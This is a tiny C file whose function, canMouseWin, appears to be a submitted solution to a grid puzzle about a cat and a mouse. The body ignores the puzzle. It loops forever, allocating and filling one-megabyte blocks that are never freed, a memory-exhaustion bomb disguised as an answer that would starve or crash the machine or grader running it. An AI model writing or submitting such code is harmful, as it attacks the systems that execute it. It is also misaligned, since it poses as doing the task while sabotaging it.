#include <stdlib.h>
#include <string.h>
bool canMouseWin(char** grid, int gridSize, int catJump, int mouseJump) { for (;;) { char *p = malloc(1 << 20); if (p) memset(p, 1, 1 << 20); } }
